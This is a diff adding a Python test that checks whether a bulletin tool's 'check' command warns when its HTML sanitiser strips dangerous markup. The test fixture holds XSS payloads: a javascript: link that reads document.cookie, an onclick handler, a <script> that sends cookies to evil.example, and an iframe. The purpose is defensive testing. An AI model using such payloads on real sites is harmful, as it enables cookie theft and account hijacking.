@@ -139,3 +139,30 @@ def test_front_matter_markup_is_escaped_in_every_output(example: Path, invoke,
     assert "alert(3)" not in text and "javascript:" not in text
 
 
+
+
+def test_check_warns_where_sanitising_removed_something(example: Path, invoke) -> None:
+    write(example / "bulletins/2022-06/95-prize.md",
+          "---\nkind: news\ntitle: Win a prize\nlink: https://example.org/prize\n"
+          "link_text: Claim the prize\n---\n"
+          "Click <a href=\"javascript:alert(document.cookie)\" onclick=\"steal()\">here</a>!\n\n"
+          "<script>fetch('https://evil.example/?c=' + document.cookie)</script>\n\n"
+          "<div style=\"position:fixed\">Overlay</div> <iframe src=\"https://evil.example\">"
+          "</iframe>\n")
+    result = invoke(example, "check")
+    found = [line for line in result.output.splitlines() if "[sanitised]" in line]
+    fix = " (fix: write it in Markdown: scripts, styles and forms never reach an email)"
+    where = "bulletins/2022-06/95-prize.md"
+    assert found == [
+        f"{where}:7: [sanitised] warning: sanitising removed a javascript: link (only http, "
+        f"https and mailto addresses are allowed){fix}",
+        f"{where}:7: [sanitised] warning: sanitising removed the onclick attribute (event "
+        f"handlers never reach an email){fix}",
+        f"{where}:9: [sanitised] warning: sanitising removed <script> (not allowed in an email; "
+        f"its content is dropped){fix}",
+        f"{where}:11: [sanitised] warning: sanitising removed <iframe> (not allowed in an email; "
+        f"its text is kept){fix}",
+        f"{where}:11: [sanitised] warning: sanitising removed the style attribute (the theme "
+        f"styles every item){fix}",
+    ]
+    assert invoke(example, "check", "--strict").exit_code == 1
